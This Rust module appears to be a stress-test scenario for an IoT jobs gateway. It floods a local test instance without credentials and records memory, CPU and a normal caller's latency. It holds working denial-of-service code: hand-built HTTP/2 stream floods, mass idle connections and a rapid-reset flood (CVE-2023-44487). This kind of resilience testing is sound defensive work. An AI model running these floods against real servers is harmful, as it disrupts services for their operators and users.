//! Scenario 17, anonymous floods: what a client without credentials can make the
//! gateway hold. Each flood runs for a minute against a fresh gateway with
//! its defaults while one normal caller asks for cached jobs on its own
//! connection; the gateway's RSS is sampled before, during (the peak) and
//! 30 s after, and the caller's latencies reported.
//!
//! The floods speak HTTP/2 by hand (frames and HPACK literals written
//! here), as an attacker would, ignoring what the server advertises:
//! - `streams`: connections that each open 500 health `Check` streams a
//!   second with HEADERS and never send their request;
//! - `silent`: connections that never send a byte, reopened as the server
//!   closes them;
//! - `reset`: connections that open streams and cancel each at once
//!   (rapid reset, CVE-2023-44487), reconnecting when the server closes.
//!
//! With `--baseline`, an older build meets each flood first, for comparison.

use std::{
    path::PathBuf,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use iot_jobs_gateway::{pb, simulator::seed::synthetic_job_id};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    sync::Mutex,
};
use tonic::Request;

use crate::{
    Error,
    procs::{channels, cpu_seconds, sibling, simulator, start_gateway},
    watch::{kib, percentile_f64},
};

/// Cached jobs the normal caller asks for.
const JOBS: usize = 10;

/// One flood's numbers.
struct Measured {
    before_kib: u64,
    peak_kib: u64,
    after_kib: u64,
    calls: usize,
    errors: usize,
    p50_ms: f64,
    p99_ms: f64,
    /// The gateway's CPU during the flood, in cores.
    cpu_cores: f64,
    flood: String,
}

/// Runs each of `floods` for `seconds` against its own gateway, of the
/// baseline build first if there is one.
pub(crate) async fn floods(
    seconds: u64,
    floods: &[String],
    baseline: Option<PathBuf>,
) -> Result<(), Error> {
    let mut builds = Vec::new();
    if let Some(program) = baseline {
        builds.push((
            format!("baseline (`{}`)", program.display()),
            "baseline",
            program,
        ));
    }
    builds.push(("this build".to_owned(), "this", sibling("iot-jobs-gateway")));
    println!(
        "## 17. Anonymous floods: {seconds} s each against the gateway's defaults, one normal caller beside\n"
    );
    println!(
        "| flood | build | what the flood did | gateway CPU during | RSS before | RSS peak during | RSS 30 s after | normal caller: calls, errors | p50 | p99 |"
    );
    println!("|---|---|---|---|---|---|---|---|---|---|");
    for flood in floods {
        for (build, tag, program) in &builds {
            let m = run(
                program.clone(),
                &format!("flood-{flood}-{tag}"),
                flood,
                seconds,
            )
            .await?;
            println!(
                "| {flood} | {build} | {} | {:.0}% of a core | {} | {} | {} | {}, {} | {:.2} ms | {:.2} ms |",
                m.flood,
                m.cpu_cores * 100.0,
                kib(m.before_kib),
                kib(m.peak_kib),
                kib(m.after_kib),
                m.calls,
                m.errors,
                m.p50_ms,
                m.p99_ms,
            );
        }
    }
    Ok(())
}

/// One flood against `program`, logging to `log`.
async fn run(program: PathBuf, log: &str, flood: &str, seconds: u64) -> Result<Measured, Error> {
    let sim = simulator(JOBS, 0).await?;
    let gw = start_gateway(program, &sim, &["--cache-ttl", "1h"], log).await?;
    let mut caller = channels(gw.port, 1).await?.remove(0);
    for i in 0..JOBS {
        caller.describe_job(describe(i)).await?;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let before_kib = gw.rss_kib();

    let stop = Arc::new(AtomicBool::new(false));
    let counters = Arc::new(Counters::default());
    let mut attackers = Vec::new();
    let workers = match flood {
        "streams" => 20,
        "silent" => 2000,
        "reset" => 10,
        other => return Err(format!("unknown flood {other}: streams, silent or reset").into()),
    };
    for _ in 0..workers {
        let (stop, counters, port) = (stop.clone(), counters.clone(), gw.port);
        let flood = flood.to_owned();
        attackers.push(tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let result = match flood.as_str() {
                    "streams" => {
                        let pace = (500, Duration::from_secs(1), false);
                        open_streams(port, &stop, &counters, pace).await
                    }
                    "silent" => silent(port, &stop, &counters).await,
                    _ => {
                        let pace = (100, Duration::from_millis(10), true);
                        open_streams(port, &stop, &counters, pace).await
                    }
                };
                if result.is_err() {
                    counters.closed.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            }
        }));
    }

    // The normal caller: 100 calls a second, each with a 1 s deadline.
    let started = Instant::now();
    let cpu_before = cpu_seconds(&gw.pid().to_string());
    let mut latencies = Vec::new();
    let (mut errors, mut peak_kib) = (0, before_kib);
    let mut next_sample = Instant::now();
    let mut i = 0;
    while started.elapsed() < Duration::from_secs(seconds) {
        let mut request = Request::new(describe(i % JOBS));
        request.set_timeout(Duration::from_secs(1));
        let t = Instant::now();
        match caller.describe_job(request).await {
            Ok(_) => latencies.push(t.elapsed().as_secs_f64() * 1e3),
            Err(_) => errors += 1,
        }
        i += 1;
        if Instant::now() >= next_sample {
            peak_kib = peak_kib.max(gw.rss_kib());
            next_sample += Duration::from_secs(1);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let cpu_cores =
        (cpu_seconds(&gw.pid().to_string()) - cpu_before) / started.elapsed().as_secs_f64();
    stop.store(true, Ordering::Relaxed);
    for attacker in attackers {
        attacker.abort();
    }
    peak_kib = peak_kib.max(gw.rss_kib());
    tokio::time::sleep(Duration::from_secs(30)).await;
    let after_kib = gw.rss_kib();
    latencies.sort_by(f64::total_cmp);
    drop((sim, gw));
    Ok(Measured {
        before_kib,
        peak_kib,
        after_kib,
        calls: latencies.len() + errors,
        errors,
        p50_ms: percentile_f64(&latencies, 0.5),
        p99_ms: percentile_f64(&latencies, 0.99),
        cpu_cores,
        flood: counters.describe(flood),
    })
}

fn describe(i: usize) -> pb::DescribeJobRequest {
    pb::DescribeJobRequest {
        job_id: synthetic_job_id(i),
        before_substitution: None,
    }
}

#[derive(Default)]
struct Counters {
    connections: AtomicU64,
    closed: AtomicU64,
    streams: AtomicU64,
}

impl Counters {
    fn describe(&self, flood: &str) -> String {
        let (connections, closed, streams) = (
            self.connections.load(Ordering::Relaxed),
            self.closed.load(Ordering::Relaxed),
            self.streams.load(Ordering::Relaxed),
        );
        match flood {
            "streams" => format!("{streams} streams opened on {connections} connections"),
            "silent" => format!("{connections} silent connections, {closed} closed by the gateway"),
            _ => format!("{streams} streams reset on {connections} connections"),
        }
    }
}

/// The HTTP/2 client preface and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A health Check's request headers, as HPACK literals (no Huffman).
fn check_headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    let literal = |block: &mut Vec<u8>, prefix: &[u8], value: &str| {
        block.extend_from_slice(prefix);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    };
    literal(&mut block, &[0x04], "/grpc.health.v1.Health/Check"); // :path
    literal(&mut block, &[0x01], "flood"); // :authority
    literal(&mut block, &[0x0f, 0x10], "application/grpc"); // content-type
    literal(&mut block, &[0x00, 0x02, b't', b'e'], "trailers");
    block
}

/// Opens an HTTP/2 connection and answers the server's SETTINGS and PINGs
/// from a reader task, so the server keeps talking.
async fn open(
    port: u16,
    counters: &Counters,
) -> Result<Arc<Mutex<tokio::net::tcp::OwnedWriteHalf>>, Error> {
    let stream = TcpStream::connect(("127.0.0.1", port)).await?;
    counters.connections.fetch_add(1, Ordering::Relaxed);
    let (mut read, mut write) = stream.into_split();
    write.write_all(PREFACE).await?;
    let write = Arc::new(Mutex::new(write));
    let answers = write.clone();
    tokio::spawn(async move {
        let mut header = [0u8; 9];
        let mut payload = Vec::new();
        while read.read_exact(&mut header).await.is_ok() {
            let len = (usize::from(header[0]) << 16)
                | (usize::from(header[1]) << 8)
                | usize::from(header[2]);
            payload.resize(len, 0);
            if read.read_exact(&mut payload).await.is_err() {
                return;
            }
            let reply = match (header[3], header[4] & 1) {
                (0x4, 0) => frame(0x4, 1, 0, &[]),
                (0x6, 0) => frame(0x6, 1, 0, &payload),
                _ => continue,
            };
            if answers.lock().await.write_all(&reply).await.is_err() {
                return;
            }
        }
    });
    Ok(write)
}

/// Opens `per_batch` health `Check` streams every `pause`, never ending
/// them or, with `cancel`, resetting each at once.
async fn open_streams(
    port: u16,
    stop: &AtomicBool,
    counters: &Counters,
    (per_batch, pause, cancel): (u32, Duration, bool),
) -> Result<(), Error> {
    let write = open(port, counters).await?;
    let headers = check_headers();
    let cancel_code = 8u32.to_be_bytes(); // RST_STREAM's CANCEL
    let mut id = 1u32;
    while !stop.load(Ordering::Relaxed) && id < (1 << 30) {
        let mut batch = Vec::new();
        for _ in 0..per_batch {
            batch.extend(frame(0x1, 0x4, id, &headers));
            if cancel {
                batch.extend(frame(0x3, 0, id, &cancel_code));
            }
            id += 2;
        }
        write.lock().await.write_all(&batch).await?;
        counters
            .streams
            .fetch_add(u64::from(per_batch), Ordering::Relaxed);
        tokio::time::sleep(pause).await;
    }
    Ok(())
}

async fn silent(port: u16, stop: &AtomicBool, counters: &Counters) -> Result<(), Error> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await?;
    counters.connections.fetch_add(1, Ordering::Relaxed);
    let mut byte = [0u8; 1];
    // Until the gateway closes it (the read ends) or the flood stops.
    while !stop.load(Ordering::Relaxed) {
        let read = tokio::time::timeout(Duration::from_millis(500), stream.read(&mut byte)).await;
        if let Ok(Ok(0) | Err(_)) = read {
            return Err("closed".into());
        }
    }
    Ok(())
}
